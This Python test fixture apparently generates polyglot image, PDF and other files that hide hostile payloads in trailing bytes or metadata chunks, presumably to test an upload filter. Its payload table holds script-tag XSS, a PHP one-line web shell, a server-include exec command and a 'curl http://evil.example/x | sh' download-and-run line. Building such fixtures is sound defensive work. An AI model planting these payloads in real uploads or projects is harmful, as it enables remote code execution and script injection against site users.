"""Files that are two things at once: a picture, or a PDF, and something that runs."""

import struct
from collections.abc import Iterator

from tests.hostile.others import PLAIN
from tests.reviews.artifacts import pictures

_ZIP = b"PK\x03\x04\x14\0\0\0\0\0" + b"\0" * 16 + b"\x05\0\0\0x.htm<script>alert(1)</script>PK\x05\x06" + b"\0" * 18
PAYLOADS = {
    "HTML": b"<!DOCTYPE html><html><body><script>alert(document.domain)</script></body></html>",
    "SVG": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "JavaScript": b"*/=1;alert(document.domain)//",
    "PHP": b"<?php system($_GET['c']); ?>",
    "a ZIP archive": _ZIP,
    "a PDF": b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF",
    "a shell script": b"\n#!/bin/sh\ncurl http://evil.example/x | sh\n",
    "a program": b"\x7fELF\x02\x01\x01\0<script>alert(1)</script>" + b"\0" * 40,
    "a web archive": b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n<script>alert(1)</script>",
    "a server include": b'<!--#exec cmd="id" --><script>alert(1)</script>',
}


def polyglots() -> Iterator[tuple[str, bytes]]:
    """(what it is, the file); the first kind is what its first bytes say."""
    for what, payload in PAYLOADS.items():
        for kind, content in PLAIN.items():
            yield f"{kind} with {what} behind it", content + payload
        yield f"PNG with {what} in a text", pictures.png_with((b"tEXt", b"Comment\0" + payload))
        yield f"PNG with {what} in its profile", pictures.png_with((b"iCCP", b"p\0\0" + payload))
        yield f"JPEG with {what} in a comment", pictures.encoded(pictures.drawn(), "JPEG", comment=payload)
        yield f"GIF with {what} in a comment", _commented(payload)
        yield f"WebP with {what} in its XMP", pictures.encoded(pictures.drawn(), "WEBP", xmp=payload)
        yield f"GIF whose size is a comment around {what}", b"GIF89a/*" + b"\0" * 4 + payload
        yield f"{what} behind the signature of a PNG", b"\x89PNG\r\n\x1a\n" + payload
        yield (
            f"{what} behind the signature of a JPEG",
            b"\xff\xd8\xff\xe0" + struct.pack(">H", len(payload) + 2) + payload,
        )


def _commented(payload: bytes) -> bytes:
    plain = PLAIN["GIF"]
    return plain[:-1] + b"!\xfe" + bytes([min(len(payload), 255)]) + payload[:255] + b"\0;"
